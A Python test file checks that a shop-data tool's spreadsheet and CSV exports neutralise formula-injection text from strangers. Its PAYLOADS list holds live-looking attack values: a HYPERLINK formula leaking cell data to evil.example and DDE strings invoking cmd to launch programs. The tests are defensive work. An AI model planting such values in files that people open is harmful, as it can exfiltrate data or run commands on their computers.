"""Spreadsheet formula injection: text from strangers (a buyer's nick, a product title, an order
number in a platform export) that starts with ``=``, ``+``, ``-`` or ``@`` must not become a
formula when an export is opened in Excel or WPS. Found in this review: audience exports to
.xlsx wrote such text as a live formula (openpyxl turns a string starting with ``=`` into one),
and .csv exports (``--out``, audience) wrote it as is, which a spreadsheet evaluates.

An .xlsx cell is written as text (its value unchanged); a .csv cell that a spreadsheet would read
as a formula gets a leading apostrophe, the usual guard (OWASP "CSV injection"); numbers, signed
amounts and phone numbers (``+86 138…``, ``-12.50``) are left as they are."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook

from shopql.config import load_settings
from shopql.insights.audience_export import write_file
from shopql.sync.engine import run_sync
from shopql.warehouse.export import spreadsheet_text
from tests.conftest import cli_in_process
from tests.security.test_hostile_files import MAPPING

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"详情")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
KEPT = ["+8613800000000", "+86 138-0000-0000", "-12.50", "+86****2477", "2025-06-01", "普通", "a=b"]


@pytest.mark.parametrize("text", PAYLOADS)
def test_formula_text_is_neutralised(text: str) -> None:
    assert spreadsheet_text(text) == "'" + text


@pytest.mark.parametrize("text", KEPT)
def test_numbers_phones_and_plain_text_are_kept(text: str) -> None:
    assert spreadsheet_text(text) == text


def test_audience_files_hold_no_formula(tmp_path: Path) -> None:
    rows = [[p, 12.5] for p in PAYLOADS + KEPT]
    book = tmp_path / "audience.xlsx"
    write_file(book, ["id", "n"], rows)
    cells = [r for r in load_workbook(book).active.iter_rows(min_row=2)]
    assert [c[0].data_type for c in cells] == ["s"] * len(rows)  # text, never "f"
    # and unchanged (XML stores a carriage return as a line feed)
    assert [c[0].value for c in cells] == [r[0].replace("\r", "\n") for r in rows]
    assert [c[1].value for c in cells] == [12.5] * len(rows)
    sheet = tmp_path / "audience.csv"
    write_file(sheet, ["id", "n"], rows)
    with sheet.open(encoding="utf-8-sig", newline="") as f:
        read = [r[0] for r in csv.reader(f)][1:]
    assert read == ["'" + p for p in PAYLOADS] + KEPT


def test_a_synced_hostile_value_exports_as_text(workspace: Path, tmp_path: Path) -> None:
    """The whole way: a stranger's export with formula order numbers, synced, then exported."""
    mapping = tmp_path / "pos.yaml"
    mapping.write_text(MAPPING, encoding="utf-8")
    export = tmp_path / "sales.csv"
    with export.open("w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["单号", "金额"])
        writer.writerows([[p.strip(), "1"] for p in PAYLOADS[:5]] + [["-1002", "2"]])
    assert run_sync(load_settings(workspace), [export], mapping=mapping).files[0].rows_loaded == 6
    sql = "select platform_order_id, paid_amount from orders order by paid_amount, 1"
    out = tmp_path / "orders.csv"
    done = cli_in_process("-w", str(workspace), "sql", sql, "--out", str(out))
    assert done.returncode == 0, done.stderr
    with out.open(encoding="utf-8", newline="") as f:
        read = list(csv.reader(f))[1:]
    assert sorted(r[0] for r in read if r[1] == "1.00") == sorted("'" + p for p in PAYLOADS[:5])
    assert [r[0] for r in read if r[1] == "2.00"] == ["-1002"]
    book = tmp_path / "orders.xlsx"
    done = cli_in_process("-w", str(workspace), "sql", sql, "--out", str(book))
    assert done.returncode == 0, done.stderr
    cells = [r[0] for r in load_workbook(book).active.iter_rows(min_row=2)]
    assert {c.data_type for c in cells} == {"s"}
    assert sorted(c.value for c in cells) == sorted([p.strip() for p in PAYLOADS[:5]] + ["-1002"])
